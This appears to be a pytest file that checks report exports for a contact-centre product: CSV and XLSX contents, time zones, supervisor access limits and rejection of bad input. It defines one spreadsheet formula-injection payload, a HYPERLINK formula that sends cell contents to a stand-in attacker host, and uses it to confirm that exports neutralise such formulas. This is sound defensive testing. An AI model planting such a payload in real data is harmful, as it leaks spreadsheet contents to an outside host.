"""Report exports (CSV, XLSX) and the per-contact report through the real server, on both
databases: a known event sequence in the log, the files read back and checked to the value;
formula injection guarded; a supervisor sees their teams' queues only; bad input is a 4xx."""

from __future__ import annotations

import csv
import io
import uuid
from dataclasses import replace
from datetime import datetime

import openpyxl
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from kpi_db import append
from kpi_events import T0, Log
from sqlalchemy import select

from omnidesk.analytics import contacts, ingester
from omnidesk.platform.database import SYSTEM, Database
from omnidesk.platform.eventlog import EventSequence
from omnidesk.platform.tenancy import tenant_by_slug

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EVIL = '=HYPERLINK("http://evil.example/?"&A1)'
RANGE = {"start": "2026-03-02T10:00:00Z", "end": "2026-03-02T11:00:00Z"}


async def _tenant_and_last_seq(db: Database, slug: str) -> tuple[uuid.UUID, int]:
    session = db.session(SYSTEM)
    try:
        tenant = await tenant_by_slug(session, slug)
        assert tenant is not None
        last = await session.scalar(
            select(EventSequence.last_seq).where(EventSequence.tenant_id == tenant.id)
        )
        return tenant.id, int(last or 0)
    finally:
        await session.close()


def _setup(client: TestClient, app: FastAPI, as_user, ids) -> None:  # type: ignore[no-untyped-def]
    """Queue `kpi` (named like a formula; agent1 is in it, so the demo supervisor's team sees
    it) and `hidden` (no member: admins only). Then, in the log, 2 March 2026 from 10:00 UTC:
    c1 in kpi answered by agent1 after 10 s, talk 60 s, wrap-up 15 s (disposition named like
    a formula); c2 in kpi abandoned after 30 s; c3 in hidden abandoned after 2 s (short)."""
    admin = as_user("admin")
    for queue, name in (("kpi", EVIL), ("hidden", "Hidden")):
        body = {"id": queue, "channels": ["chat"], "name": name, "service_level_seconds": 20}
        assert admin.post("/api/v1/routing/queues", json=body).status_code == 201
    agent = ids["agent1"]
    r = admin.put(
        f"/api/v1/routing/agents/{agent}",
        json={"skills": {}, "queues": {"kpi": 1}, "capacity": {"chat": 1}},
    )
    assert r.status_code == 200, r.text
    log = Log(T0).received(0, "c1", queue="kpi").accepted(10, "c1", agent, 10.0, True, "kpi")
    log.ended(70, "c1", agent=agent, queue="kpi").wrap(70, 85, "c1", agent, disposition="=sale")
    log.received(20, "c2", queue="kpi").ended(50, "c2", reason="cancelled", queue="kpi")
    log.received(30, "c3", queue="hidden").ended(32, "c3", reason="cancelled", queue="hidden")
    db = app.state.services.db
    # The events below take the log's next seqs without its allocator: wait until the server's
    # ingester has pushed what it holds (its first batch pushes every team's figures), or its
    # figures events would take those seqs first.
    client.portal.call(app.state.analytics.settled)  # type: ignore[union-attr]
    tenant_id, last = client.portal.call(_tenant_and_last_seq, db, "demo")  # type: ignore[union-attr]
    events = [replace(e, seq=last + e.seq) for e in log.events]
    client.portal.call(append, db, tenant_id, events)  # type: ignore[union-attr]
    client.portal.call(ingester.catch_up, db, tenant_id)  # type: ignore[union-attr]


def _csv(response) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx(response) -> list[dict[str, object]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    header, *rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_queue_export_as_csv_and_xlsx(client: TestClient, app: FastAPI, as_user, tenants) -> None:  # type: ignore[no-untyped-def]
    _setup(client, app, as_user, tenants["demo"].ids)
    admin = as_user("admin")
    url = "/api/v1/analytics/queues/export"
    params = {**RANGE, "interval": "30m"}
    r = admin.get(url, params={**params, "format": "csv"})
    assert r.headers["content-disposition"] == (
        'attachment; filename="omnidesk-queues-2026-03-02-2026-03-02.csv"'
    )
    rows = _csv(r)
    # Each queue with figures: two half hours, then its total.
    assert [(row["Queue id"], row["Row (interval | total)"]) for row in rows] == [
        ("hidden", "interval"), ("hidden", "interval"), ("hidden", "total"),
        ("kpi", "interval"), ("kpi", "interval"), ("kpi", "total"),
    ]  # fmt: skip
    first, second, total = rows[3:]
    assert first["Interval start (UTC)"] == "2026-03-02T10:00:00+00:00"
    assert second["Interval start (UTC)"] == "2026-03-02T10:30:00+00:00"
    assert second["Offered"] == "0" and second["Service level (0-1)"] == ""
    # The queue's name began with "=": a spreadsheet would run it; the CSV shows it as text.
    assert total["Queue"] == "'" + EVIL
    expected = {
        "Offered": "2", "Answered": "1", "Answered within service level": "1",
        "Abandoned (short included)": "1", "Short abandoned": "0",
        "Abandoned within service level": "0", "Handled": "1",
        "Wait of answered (s)": "10.0", "Wait of abandoned (s)": "30.0", "Talk (s)": "60.0",
        "Hold (s)": "0.0", "Wrap-up (s)": "15.0", "Service level (0-1)": "0.5",
        "ASA (s)": "10.0", "AHT (s)": "75.0", "Abandon rate (0-1)": "0.5",
    }  # fmt: skip
    assert {k: total[k] for k in expected} == expected
    assert {k: first[k] for k in expected} == expected  # all arrived in the first half hour
    hidden = rows[2]
    assert (hidden["Offered"], hidden["Short abandoned"], hidden["Abandon rate (0-1)"]) == (
        "1",
        "1",
        "0.0",
    )
    # The same figures in XLSX, as numbers; the name kept as it is, typed as text.
    r = admin.get(url, params={**params, "format": "xlsx", "queue_id": "kpi"})
    assert r.headers["content-disposition"].endswith('.xlsx"')
    first, second, total = _xlsx(r)
    assert first["Interval start (UTC)"] == datetime(2026, 3, 2, 10, 0)
    assert total["Queue"] == EVIL
    assert (total["Offered"], total["Answered"], total["Abandoned (short included)"]) == (2, 1, 1)
    assert (total["Service level (0-1)"], total["ASA (s)"], total["AHT (s)"]) == (0.5, 10.0, 75.0)
    assert total["Wrap-up (s)"] == 15.0 and second["Service level (0-1)"] is None
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).worksheets[0]
    name_cell = sheet.cell(row=4, column=5)
    assert name_cell.value == EVIL and name_cell.data_type == "s"  # not a formula
    # In the tenant's zone: the offset in CSV, the wall time in XLSX, the zone in the header.
    body = {"short_abandon_seconds": 5, "abandons_in_sl": "missed", "timezone": "Europe/Riga"}
    assert admin.put("/api/v1/analytics/settings", json=body).status_code == 200
    params = {**params, "queue_id": "kpi"}
    first, *_ = _csv(admin.get(url, params={**params, "format": "csv"}))
    assert first["Interval start (Europe/Riga)"] == "2026-03-02T12:00:00+02:00"
    assert first["Offered"] == "2"
    first, *_ = _xlsx(admin.get(url, params={**params, "format": "xlsx"}))
    assert first["Interval start (Europe/Riga)"] == datetime(2026, 3, 2, 12, 0)


def test_agent_export(client: TestClient, app: FastAPI, as_user, tenants) -> None:  # type: ignore[no-untyped-def]
    ids = tenants["demo"].ids
    _setup(client, app, as_user, ids)
    r = as_user("supervisor").get(
        "/api/v1/analytics/agents/export", params={**RANGE, "interval": "60m", "format": "xlsx"}
    )
    rows = [row for row in _xlsx(r) if row["Agent id"] == ids["agent1"]]
    assert [row["Row (interval | total)"] for row in rows] == ["interval", "total"]
    total = rows[-1]
    assert (total["Handled"], total["Talk (s)"], total["Wrap-up (s)"], total["AHT (s)"]) == (
        1,
        60.0,
        15.0,
        75.0,
    )
    assert total["Agent"]  # the directory's name


def test_contact_report_and_export(client: TestClient, app: FastAPI, as_user, tenants) -> None:  # type: ignore[no-untyped-def]
    ids = tenants["demo"].ids
    _setup(client, app, as_user, ids)
    admin = as_user("admin")
    r = admin.get("/api/v1/analytics/contacts", params=RANGE)
    assert r.status_code == 200, r.text
    visits = {v["contact_id"]: v for v in r.json()["visits"]}
    assert sorted(visits) == ["c1", "c2", "c3"]
    c1 = visits["c1"]
    assert (c1["queue_id"], c1["agent_id"], c1["outcome"], c1["disposition"]) == (
        "kpi",
        ids["agent1"],
        "answered",
        "=sale",
    )
    assert (c1["wait_seconds"], c1["talk_seconds"], c1["wrap_seconds"], c1["handle_seconds"]) == (
        10.0,
        60.0,
        15.0,
        75.0,
    )
    assert c1["answered_at"] == "2026-03-02T10:00:10Z"
    assert c1["ended_at"] == "2026-03-02T10:01:10Z"
    assert (visits["c2"]["outcome"], visits["c2"]["abandoned"]) == ("abandoned", True)
    assert visits["c3"]["outcome"] == "short_abandoned"
    r = admin.get("/api/v1/analytics/contacts/export", params={**RANGE, "format": "csv"})
    rows = {row["Contact id"]: row for row in _csv(r)}
    assert rows["c1"]["Disposition"] == "'=sale"
    assert rows["c1"]["Offered at (UTC)"] == "2026-03-02T10:00:00+00:00"
    assert (rows["c2"]["Abandoned"], rows["c2"]["Wait (s)"]) == ("true", "30.0")
    r = admin.get("/api/v1/analytics/contacts/export", params={**RANGE, "format": "xlsx"})
    rows_x = {row["Contact id"]: row for row in _xlsx(r)}
    assert rows_x["c1"]["Answered at (UTC)"] == datetime(2026, 3, 2, 10, 0, 10)
    assert rows_x["c1"]["Handle (s)"] == 75.0 and rows_x["c1"]["Disposition"] == "=sale"


def test_supervisors_export_only_their_queues(
    client: TestClient, app: FastAPI, as_user, tenants
) -> None:  # type: ignore[no-untyped-def]
    _setup(client, app, as_user, tenants["demo"].ids)
    supervisor = as_user("supervisor")
    rows = _csv(
        supervisor.get("/api/v1/analytics/queues/export", params={**RANGE, "format": "csv"})
    )
    assert {row["Queue id"] for row in rows} == {"kpi"}
    r = supervisor.get(
        "/api/v1/analytics/queues/export",
        params={**RANGE, "format": "csv", "queue_id": "hidden"},
    )
    assert r.status_code == 404
    r = supervisor.get("/api/v1/analytics/contacts", params=RANGE)
    assert sorted(v["contact_id"] for v in r.json()["visits"]) == ["c1", "c2"]
    rows = _csv(
        supervisor.get("/api/v1/analytics/contacts/export", params={**RANGE, "format": "csv"})
    )
    assert sorted(row["Contact id"] for row in rows) == ["c1", "c2"]
    r = supervisor.get(
        "/api/v1/analytics/contacts/export",
        params={**RANGE, "format": "csv", "queue_id": "hidden"},
    )
    assert r.status_code == 404
    assert (
        as_user("agent1")
        .get("/api/v1/analytics/contacts/export", params={**RANGE, "format": "csv"})
        .status_code
        == 403
    )


def test_bad_format_and_range_are_refused_with_a_reason(
    client: TestClient, app: FastAPI, as_user, tenants, monkeypatch: pytest.MonkeyPatch
) -> None:  # type: ignore[no-untyped-def]
    _setup(client, app, as_user, tenants["demo"].ids)
    admin = as_user("admin")
    for path in ("queues", "agents", "contacts"):
        url = f"/api/v1/analytics/{path}/export"
        r = admin.get(url, params={**RANGE, "format": "pdf"})
        assert r.status_code == 422 and r.json()["errors"][0]["loc"] == ["query", "format"]
        r = admin.get(url, params=RANGE)  # no format
        assert r.status_code == 422 and r.json()["errors"][0]["loc"] == ["query", "format"]
        r = admin.get(url, params={**RANGE, "format": "csv", "end": "2026-03-01T00:00:00Z"})
        assert r.status_code == 422 and r.json()["field"] == "end", r.text
        r = admin.get(url, params={**RANGE, "format": "csv", "start": "2026-03-02T10:07:00Z"})
        assert r.status_code == 422 and r.json()["field"] == "start", r.text
    # More contacts than an export holds: refused, never cut short.
    monkeypatch.setattr(contacts, "MAX_CONTACTS", 2)
    r = admin.get("/api/v1/analytics/contacts/export", params={**RANGE, "format": "xlsx"})
    assert r.status_code == 422 and r.json()["field"] == "end"
    assert "3 contacts" in r.json()["detail"]
